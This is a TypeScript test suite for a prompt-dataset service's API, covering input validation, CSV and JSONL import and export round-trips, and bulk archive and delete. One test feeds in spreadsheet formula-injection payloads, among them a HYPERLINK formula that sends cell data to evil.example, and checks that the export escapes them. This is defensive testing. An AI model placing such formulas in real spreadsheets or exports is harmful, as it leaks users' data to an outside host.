import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ROUTES, type Input } from '@promptgrid/contract';
import { createTestApp, databaseKinds, signedInClient, type TestClient } from '../../test/harness.js';
import { itemAt } from '@promptgrid/test-support';

describe.each(databaseKinds)('user prompt datasets on %s', (kind) => {
  let ctx: Awaited<ReturnType<typeof createTestApp>>;
  beforeAll(async () => {
    ctx = await createTestApp(kind);
  });
  afterAll(() => ctx?.close());

  async function withProject() {
    const client = await signedInClient(ctx.app);
    const project = (await client.post(ROUTES.projects, { name: 'Data', description: 'Cases' })).json().id as number;
    return { client, project };
  }
  const list = async (client: TestClient, project: number) =>
    (await client.get(ROUTES.inputs(project))).json<Input[]>();
  const importFile = (client: TestClient, project: number, format: string, data: string) =>
    client.post(ROUTES.inputsImport(project), { format, data });

  it('round-trips variables and an expected output on create and update, and names a bad one', async () => {
    const { client, project } = await withProject();
    const created = await client.post(ROUTES.inputs(project), {
      name: 'Case',
      content: 'Hi {{who}}',
      variables: { who: 'Ann', _x9: '' },
      expected_output: 'Hello Ann',
    });
    expect(created.statusCode).toBe(201);
    expect(created.json()).toMatchObject({ variables: { who: 'Ann', _x9: '' }, expected_output: 'Hello Ann' });
    const id = created.json().id;

    // The spec's client sends the whole input back with the changed flag: variables stay.
    const toggled = await client.put(ROUTES.input(project, id), { ...created.json<Input>(), active: false });
    expect(toggled.json()).toMatchObject({ active: false, variables: { who: 'Ann', _x9: '' } });
    const withoutFields = await client.put(ROUTES.input(project, id), { name: 'Case', content: 'Hi' });
    expect(withoutFields.json()).toMatchObject({ variables: { who: 'Ann', _x9: '' }, expected_output: 'Hello Ann' });
    const cleared = await client.put(ROUTES.input(project, id), {
      name: 'Case',
      content: 'Hi',
      variables: {},
      expected_output: '',
    });
    expect(cleared.json()).toMatchObject({ variables: {}, expected_output: null });
    expect((await list(client, project))[0]).toMatchObject({ variables: {}, expected_output: null });

    const badName = await client.post(ROUTES.inputs(project), {
      name: 'x',
      content: 'y',
      variables: { '9 lives': 'a' },
    });
    expect(badName.statusCode).toBe(400);
    expect(Object.keys(badName.json())).toEqual(['variables.9 lives']);
    const badValue = await client.post(ROUTES.inputs(project), { name: 'x', content: 'y', variables: { a: 1 } });
    expect(badValue.statusCode).toBe(400);
    expect(badValue.json()).toEqual({ 'variables.a': ['A variable value must be text.'] });
    const tooLong = await client.post(ROUTES.inputs(project), {
      name: 'x',
      content: 'y',
      expected_output: 'z'.repeat(200_001),
    });
    expect(tooLong.json()).toEqual({ expected_output: ['Expected output must be at most 200,000 characters.'] });
    const nul = await client.post(ROUTES.inputs(project), {
      name: 'x',
      content: 'y',
      variables: { a: 'b\u0000' },
      expected_output: '\u0000',
    });
    expect(nul.json()).toEqual({
      'variables.a': ['A variable value cannot contain NUL characters.'],
      expected_output: ['Expected output cannot contain NUL characters.'],
    });
  });

  it('imports CSV with quoted commas, quotes, newlines, a BOM, CRLF and extra columns as variables', async () => {
    const { client, project } = await withProject();
    const csv =
      '\uFEFFName,Content,expected_output,city,variables.name\r\n' +
      'Comma,"Hello, world","Hi, there",Paris,Ann\r\n' +
      ',"She said ""yes""\r\nthen left",,"",Bob\r\n' +
      'Multi,"line one\nline two",,Oslo,\r\n';
    const preview = await client.post(ROUTES.inputsImportPreview(project), { format: 'csv', data: csv });
    expect(preview.statusCode).toBe(200);
    expect(preview.json()).toMatchObject({
      total_rows: 3,
      columns: [
        { column: 'Name', target: 'name' },
        { column: 'Content', target: 'content' },
        { column: 'expected_output', target: 'expected_output' },
        { column: 'city', target: 'variable' },
        { column: 'variables.name', target: 'variable' },
      ],
      errors: [],
    });
    expect(await list(client, project)).toEqual([]);

    const imported = await importFile(client, project, 'csv', csv);
    expect(imported.statusCode, imported.body).toBe(201);
    expect(imported.json()).toEqual({ created: 3 });
    const inputs = await list(client, project);
    expect(
      inputs.map(({ name, content, expected_output, variables, active }) => ({
        name,
        content,
        expected_output,
        variables,
        active,
      })),
    ).toEqual([
      {
        name: 'Comma',
        content: 'Hello, world',
        expected_output: 'Hi, there',
        variables: { city: 'Paris', name: 'Ann' },
        active: true,
      },
      // No name: the first words of the content; an empty cell is an empty variable.
      {
        name: 'She said "yes" then left',
        content: 'She said "yes"\r\nthen left',
        expected_output: null,
        variables: { city: '', name: 'Bob' },
        active: true,
      },
      {
        name: 'Multi',
        content: 'line one\nline two',
        expected_output: null,
        variables: { city: 'Oslo', name: '' },
        active: true,
      },
    ]);
    expect(itemAt(inputs, 0).token_count).toBeGreaterThan(0);
    expect((await client.get(ROUTES.project(project))).json().input_count).toBe(3);
  });

  it('imports a single-column CSV as contents and JSONL with variables as an object', async () => {
    const { client, project } = await withProject();
    expect((await importFile(client, project, 'csv', 'prompt\nFirst question\n"Second, longer"\n')).json()).toEqual({
      created: 2,
    });
    const jsonl =
      '{"name":"J1","content":"Hi {{a}}","variables":{"a":"x"},"expected_output":"ok","active":false}\n\n' +
      '{"content":"No name here at all, it is taken from the words"}\n';
    expect((await importFile(client, project, 'jsonl', jsonl)).json()).toEqual({ created: 2 });
    expect(
      (await list(client, project)).map((i) => [i.name, i.content, i.variables, i.expected_output, i.active]),
    ).toEqual([
      ['First question', 'First question', {}, null, true],
      ['Second, longer', 'Second, longer', {}, null, true],
      ['J1', 'Hi {{a}}', { a: 'x' }, 'ok', false],
      ['No name here at all, it', 'No name here at all, it is taken from the words', {}, null, true],
    ]);
  });

  it('imports conversations from a messages column, a messages field and OpenAI Evals samples as they are', async () => {
    const { client, project } = await withProject();
    const chat = [
      { role: 'user', content: 'Hi' },
      { role: 'assistant', content: 'Hello!' },
      { role: 'user', content: 'Tell me a joke, please' },
    ];
    const csv = Papa.unparse([
      ['name', 'messages', 'expected_output'],
      ['From CSV', JSON.stringify(chat), 'A joke'],
    ]);
    expect((await importFile(client, project, 'csv', csv)).json()).toEqual({ created: 1 });
    const jsonl =
      `${JSON.stringify({ messages: chat })}\n` +
      `${JSON.stringify({ input: [{ role: 'system', content: 'Be funny.' }, ...chat], ideal: ['Why did…', 'Knock knock'] })}\n`;
    expect((await importFile(client, project, 'jsonl', jsonl)).json()).toEqual({ created: 2 });
    expect(
      (await list(client, project)).map((i) => [i.name, i.content, i.messages, i.variables, i.expected_output]),
    ).toEqual([
      ['From CSV', 'Tell me a joke, please', chat, {}, 'A joke'],
      ['Tell me a joke, please', 'Tell me a joke, please', chat, {}, null],
      ['Tell me a joke, please', 'Tell me a joke, please', chat, { system: 'Be funny.' }, 'Why did…'],
    ]);

    const refused = await importFile(
      client,
      project,
      'jsonl',
      `${JSON.stringify({ messages: chat.slice(0, 2) })}\n{"messages":"not a list"}\n`,
    );
    expect(refused.statusCode).toBe(400);
    expect(refused.json().errors).toEqual([
      { row: 1, field: 'messages', message: 'A conversation must end with a user message.' },
      // Without a conversation to name it after, the row has no name either.
      { row: 2, field: 'name', message: 'Name is required.' },
      { row: 2, field: 'messages', message: 'A conversation must be a list of {role, content} messages.' },
    ]);
  });

  it('refuses a column mapping of more than 1,000 columns with one message, before reading any', async () => {
    const { client, project } = await withProject();
    const columns = Object.fromEntries(Array.from({ length: 20_000 }, (_, n) => [`column ${n}`, 'nowhere']));
    const refused = await client.post(ROUTES.inputsImportPreview(project), { format: 'csv', data: 'x\n', columns });
    expect(refused.statusCode).toBe(400);
    expect(refused.json()).toEqual({ columns: ['At most 1000 columns.'] });
  });

  it('refuses a file with bad rows, naming row and field, and creates nothing', async () => {
    const { client, project } = await withProject();
    const csv = 'name,content,tone\nGood,Fine,calm\nBlank,,calm\nWide,x,calm,extra\nLast,ok,calm\n';
    const refused = await importFile(client, project, 'csv', csv);
    expect(refused.statusCode).toBe(400);
    expect(refused.json()).toEqual({
      errors: [
        { row: 3, field: 'content', message: 'Content is required.' },
        { row: 4, field: 'data', message: 'Expected 3 columns, found 4.' },
      ],
    });
    const header = await importFile(client, project, 'csv', 'name,first name,name\na,b,c\n');
    expect(header.json().errors).toEqual([
      { row: 1, field: 'first name', message: expect.stringContaining('is not a variable name') },
      { row: 1, field: 'name', message: 'Another column is already read as name.' },
      {
        row: 1,
        field: 'content',
        message: 'A content or messages column is required (or a file with a single column).',
      },
    ]);
    const jsonl = await importFile(
      client,
      project,
      'jsonl',
      '{"content":"ok"}\nnot json\n[1]\n{"content":"x","first name":3}\n{"content":"y","variables":{"a b":"c"}}\n',
    );
    expect(jsonl.json().errors).toEqual([
      { row: 2, field: 'data', message: expect.stringContaining('Not valid JSON') },
      { row: 3, field: 'data', message: 'Each line must be a JSON object.' },
      { row: 4, field: 'first name', message: expect.stringContaining('is not a variable name') },
      { row: 5, field: 'variables.a b', message: expect.stringContaining('is not a variable name') },
    ]);
    const unclosed = await importFile(client, project, 'csv', 'content\nok\n"never closed\n');
    expect(unclosed.json().errors).toEqual([
      { row: 3, field: 'data', message: expect.stringContaining('Quoted field unterminated') },
    ]);
    const many = await importFile(client, project, 'jsonl', '{"content":""}\n'.repeat(150));
    expect(many.json().errors).toHaveLength(100);
    expect((await importFile(client, project, 'csv', '')).json()).toEqual({
      errors: [{ row: 0, field: 'data', message: 'The file is empty.' }],
    });
    expect((await importFile(client, project, 'csv', 'content\n')).json()).toEqual({
      errors: [{ row: 0, field: 'data', message: 'The file has no rows to import.' }],
    });
    expect((await importFile(client, project, 'xlsx', 'a')).json()).toEqual({
      format: ['format must be csv or jsonl.'],
    });
    expect(await list(client, project)).toEqual([]);
  });

  it('exports CSV and JSONL that import into another project unchanged, archived prompts included', async () => {
    const { client, project } = await withProject();
    const originals = [
      {
        name: 'Quotes, "and" commas',
        content: 'Line 1\nLine "2", with comma\r\nLine 3',
        variables: { city: 'Paris', empty: '', name: 'Bo', content: 'x' },
        expected_output: 'Yes,\n"no"',
        active: true,
      },
      {
        name: 'Archived',
        content: '=SUM(A1) starts like a formula',
        variables: { city: '', empty: '', name: 'Ann', content: 'c' },
        expected_output: null,
        active: false,
      },
      {
        name: 'Unicode',
        content: 'Grüße 👋 — naïve',
        variables: { city: 'Oslo', empty: '', name: '', content: '' },
        expected_output: null,
        active: true,
      },
      {
        name: 'Conversation',
        content: 'And "Italy", then?',
        messages: [
          { role: 'user', content: 'Capital of France?' },
          { role: 'assistant', content: 'Paris,\n"of course"' },
          { role: 'user', content: 'And "Italy", then?' },
        ],
        variables: { city: '', empty: '', name: '', content: '' },
        expected_output: 'Rome',
        active: true,
      },
    ];
    for (const input of originals) expect((await client.post(ROUTES.inputs(project), input)).statusCode).toBe(201);
    const shape = (inputs: Input[]) =>
      inputs.map(({ name, content, messages, variables, expected_output, active }) => ({
        name,
        content,
        ...(messages ? { messages } : {}),
        variables,
        expected_output,
        active,
      }));
    expect(shape(await list(client, project))).toEqual(originals);

    for (const format of ['csv', 'jsonl'] as const) {
      const exported = await client.get(ROUTES.inputsExport(project, format));
      expect(exported.statusCode).toBe(200);
      expect(exported.headers['content-disposition']).toBe(`attachment; filename="user-prompts-${project}.${format}"`);
      expect(exported.headers['content-type']).toContain(format === 'csv' ? 'text/csv' : 'application/x-ndjson');
      if (format === 'csv')
        expect(exported.body.split('\n')[0]).toBe(
          '\uFEFFname,content,expected_output,active,messages,city,variables.content,empty,variables.name',
        );
      const other = (await client.post(ROUTES.projects, { name: `Copy ${format}`, description: 'D' })).json().id;
      const imported = await importFile(client, other, format, exported.body);
      expect(imported.json()).toEqual({ created: 4 });
      expect(shape(await list(client, other))).toEqual(originals);
    }
    expect((await client.get(`/api/projects/${project}/inputs/export/?format=xml`)).statusCode).toBe(400);
  });

  it('writes no cell a spreadsheet would run as a formula, and imports its own export back unchanged', async () => {
    const { client, project } = await withProject();
    const hostile = {
      name: '@SUM(1+1)',
      content: '=HYPERLINK("http://evil.example/?"&A1)\nsecond line',
      variables: { minus: '-2+3', plus: '+1', tab: '\tindented', quoted: "'=already quoted" },
      expected_output: '\r=1',
      active: true,
    };
    expect((await client.post(ROUTES.inputs(project), hostile)).statusCode).toBe(201);
    const exported = (await client.get(ROUTES.inputsExport(project, 'csv'))).body;
    const [, row] = Papa.parse<string[]>(exported.replace(/^\uFEFF/, '')).data;
    expect(row).toEqual([
      "'@SUM(1+1)",
      `'${hostile.content}`,
      "'\r=1",
      'true',
      '',
      "'-2+3",
      "'+1",
      "''=already quoted",
      "'\tindented",
    ]);
    const other = (await client.post(ROUTES.projects, { name: 'Copy', description: 'D' })).json().id;
    expect((await importFile(client, other, 'csv', exported)).json()).toEqual({ created: 1 });
    expect(await list(client, other)).toEqual([expect.objectContaining(hostile)]);
  });

  it('archives, restores and deletes several user prompts in one request; another user’s id is 404 and changes nothing', async () => {
    const { client, project } = await withProject();
    await importFile(client, project, 'csv', 'content\none\ntwo\nthree\n');
    const [a, b, c] = (await list(client, project)).map((i) => i.id);
    const bulk = (body: object, as = client, p = project) => as.post(ROUTES.inputsBulk(p), body);

    expect((await bulk({ ids: [a, b, a], action: 'archive' })).json()).toEqual({ action: 'archive', count: 2 });
    expect((await list(client, project)).map((i) => i.active)).toEqual([false, false, true]);
    expect((await bulk({ ids: [a], action: 'restore' })).json()).toEqual({ action: 'restore', count: 1 });
    expect((await list(client, project)).map((i) => i.active)).toEqual([true, false, true]);

    const other = await withProject();
    await importFile(other.client, other.project, 'csv', 'content\ntheirs\n');
    const [theirs] = (await list(other.client, other.project)).map((i) => i.id);
    expect((await bulk({ ids: [a, theirs], action: 'delete' })).statusCode).toBe(404);
    expect((await bulk({ ids: [a], action: 'delete' }, other.client, other.project)).statusCode).toBe(404);
    expect((await bulk({ ids: [a], action: 'delete' }, other.client, project)).statusCode).toBe(404);
    expect(await list(client, project)).toHaveLength(3);
    expect(await list(other.client, other.project)).toHaveLength(1);

    expect((await bulk({ ids: [], action: 'delete' })).json()).toEqual({ ids: ['Select at least one user prompt.'] });
    expect((await bulk({ ids: [a], action: 'explode' })).json()).toEqual({
      action: ['action must be archive, restore or delete.'],
    });
    expect((await bulk({ ids: [a, c], action: 'delete' })).json()).toEqual({ action: 'delete', count: 2 });
    expect((await list(client, project)).map((i) => i.id)).toEqual([b]);
    expect((await client.get(ROUTES.project(project))).json().input_count).toBe(1);
  });
});
